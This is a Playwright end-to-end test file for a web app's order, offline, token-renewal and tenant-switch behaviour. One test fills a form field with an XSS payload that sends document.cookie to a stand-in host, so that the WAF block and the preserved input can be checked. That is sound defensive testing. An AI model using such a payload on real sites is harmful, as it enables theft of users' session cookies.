import type { Page } from 'playwright-core'
import { describe, expect, inject, test } from 'vitest'
import { call } from '../support/http.ts'
import { newSlug } from '../support/users.ts'
import { expectAccessible } from './axe.ts'
import { atOrders, copy, signIn, useVisitors } from './browser.ts'
import { fillOrder } from './order-steps.ts'
import { problemAnswer } from './problem-answer.ts'
import { signInWithSecondFactor, signUpWithSecondFactor } from './second-factor-steps.ts'

const { hasEdge } = inject('target')
const visit = useVisitors()

describe('[P12] a form that is refused keeps what was typed', () => {
  test('[S53] and says what to change and which request it was, when the WAF blocks it', async () => {
    const { page, context, allow } = await visit()
    allow(/status of 403/)
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    await signIn(page, 'member@acme.test')
    await page.getByRole('link', { name: 'New order' }).click()
    await fillOrder(page, `Blocked ${Date.now()}`)
    const attack = `<script>document.location='http://a.example/?'+document.cookie</script>`
    await page.getByLabel('Note').fill(attack)
    // Without an edge there is no WAF.
    if (!hasEdge) {
      await page.route('**/api/orders', route => route.fulfill(problemAnswer(403, 'blocked')), { times: 1 })
    }
    await page.getByRole('button', { name: 'Create order' }).click()
    const alert = page.getByRole('alert').filter({ hasText: 'The request was blocked' })
    await alert.getByText('Take out code, markup and commands').waitFor()
    expect(await copy(page, 'Copy request id')).toMatch(hasEdge ? /^[0-9a-f]{32}$/ : /^r$/)
    expect(await page.getByLabel('Note').inputValue()).toBe(attack)
    await page.getByLabel('Note').fill('Ring twice.')
    await page.getByRole('button', { name: 'Create order' }).click()
    await page.getByRole('heading', { name: /^Order ORD-/ }).waitFor()
  })

  test('[S48] and counts down, when a limit is reached', async () => {
    const { page, allow } = await visit()
    allow(/status of 429/)
    await page.clock.install()
    await signIn(page, 'member@acme.test')
    await page.getByRole('link', { name: 'New order' }).click()
    await fillOrder(page, `Limited ${Date.now()}`)
    const { headers, ...answer } = problemAnswer(429, 'quota-exceeded', { 'violated-policies': ['write-user'] })
    const limited = { ...answer, headers: { ...headers, 'retry-after': '3600' } }
    await page.route('**/api/orders', route => route.fulfill(limited), { times: 1 })
    await page.getByRole('button', { name: 'Create order' }).click()
    const alert = page.getByRole('alert').filter({ hasText: 'Reached: Your own requests, by the minute.' })
    await alert
      .getByRole('timer')
      .filter({ hasText: /^You can try again in 60 minutes\.$/ })
      .waitFor()
    // The device slept meanwhile.
    await page.clock.fastForward(3_600_000)
    await alert.getByRole('timer').filter({ hasText: 'You can try again now.' }).waitFor()
    await page.getByRole('button', { name: 'Create order' }).click()
    await page.getByRole('heading', { name: /^Order ORD-/ }).waitFor()
  })
})

describe('[P12] a device', () => {
  test('that is offline says so, and shows what it missed as soon as it is back', async () => {
    const { page, context, allow } = await visit()
    allow(/ERR_INTERNET_DISCONNECTED/)
    await signIn(page, 'member@acme.test')
    await page.getByRole('table', { name: 'Orders' }).waitFor()
    await context.setOffline(true)
    await page.getByText('This device is offline.').waitFor()
    await page.getByRole('radio', { name: 'Cancelled' }).click()
    await page.getByRole('alert').getByText('Check its connection').waitFor()
    await context.setOffline(false)
    await page.getByRole('alert').waitFor({ state: 'detached' })
    await page.getByText('This device is offline.').waitFor({ state: 'hidden' })
    await page
      .getByRole('status')
      .filter({ hasText: /\d+ orders?$/ })
      .waitFor()
  })

  test('that slept for days continues with a new token', async () => {
    const { page } = await visit()
    await page.clock.install()
    await signIn(page, 'member@acme.test')
    const renewed = page.waitForResponse(answer => answer.url().endsWith('/api/auth/refresh'))
    await page.clock.fastForward(3 * 86_400_000)
    expect((await renewed).status()).toBe(200)
    await page.getByRole('link', { name: 'New order' }).click()
    await fillOrder(page, `Awake ${Date.now()}`)
    await page.getByRole('button', { name: 'Create order' }).click()
    await page.getByRole('heading', { name: /^Order ORD-/ }).waitFor()
  })
})

describe('[P12] a switch to another tenant in another tab', () => {
  const switchTo = async (page: Page, name: string) => {
    await page.getByRole('button', { name: /^Account of/ }).click()
    await page.getByRole('menuitem', { name: new RegExp(`^${name}`) }).click()
    await page
      .getByRole('button', { name: /^Account of/ })
      .filter({ hasText: name })
      .waitFor()
  }

  test('waits until codes that are shown once are saved, and until text that is not sent may go', async () => {
    const { page, context, allow } = await visit()
    allow(/status of 401/)
    const user = await signUpWithSecondFactor()
    const token = user.accessToken
    const other = await call('/api/tenants', { method: 'POST', token, json: { slug: newSlug(), name: 'Second house' } })
    expect(other.status, other.text).toBe(201)
    await signInWithSecondFactor(page, user)
    const tab = await context.newPage()
    await tab.goto('/orders')
    await atOrders(tab)

    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Account', exact: true }).click()
    await page.getByRole('button', { name: 'Renew recovery codes' }).click()
    const codes = page.getByRole('list', { name: 'Your recovery codes' })
    await codes.waitFor()
    await switchTo(tab, 'Second house')
    const notice = page.getByRole('alert').filter({ hasText: 'You switched to Second house in another tab' })
    await notice.waitFor()
    expect(await codes.isVisible()).toBe(true)
    await expectAccessible(page, 'codes while another tab has switched')
    await page.getByRole('button', { name: 'I have saved it' }).click()
    const account = page.getByRole('button', { name: /^Account of/ })
    await account.filter({ hasText: 'Second house' }).waitFor()

    await page.goto('/orders/new')
    await page.getByLabel('Customer name').fill('Half an order')
    await switchTo(tab, 'New tenant')
    const left = page.getByRole('alert').filter({ hasText: 'You switched to New tenant in another tab' })
    await left.waitFor()
    expect(await page.getByLabel('Customer name').inputValue()).toBe('Half an order')
    await left.getByRole('button', { name: 'Continue in New tenant' }).click()
    await account.filter({ hasText: 'New tenant' }).waitFor()
  })
})
